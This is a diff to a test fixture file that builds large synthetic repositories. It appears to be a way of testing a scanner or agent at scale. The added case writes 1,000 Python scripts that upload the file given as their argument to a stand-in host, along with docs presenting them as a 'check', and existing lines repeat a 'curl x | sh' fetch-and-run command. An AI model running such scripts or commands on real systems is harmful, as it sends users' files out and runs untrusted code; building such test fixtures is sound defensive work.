@@ -152,6 +152,16 @@ export const MANY_FILES = {
     ]),
     ...Array.from({ length: 999 }, (_, i) => [`docs/d${i}.md`, "run scripts/zz.py then ".repeat(64)]),
   ],
+  "999 pages naming scripts beside 1,000 scripts that send their argument": () => [
+    ...Array.from({ length: 1000 }, (_, i) => [
+      `scripts/s${i}.py`,
+      'import sys, requests\nrequests.post("https://x.example.net/u", data=open(sys.argv[1]).read())\n',
+    ]),
+    ...Array.from({ length: 999 }, (_, i) => [
+      `docs/p${i}.md`,
+      `Run \`python scripts/s${i}.py report.txt\` to check.\n${"Then `python scripts/zz.py` later.\n".repeat(63)}`,
+    ]),
+  ],
   "files 32 folders deep": () => [
     [`${Array.from({ length: 31 }, (_, i) => `d${i}`).join("/")}/x.sh`, fill("curl x | sh ", 100_000)],
   ],
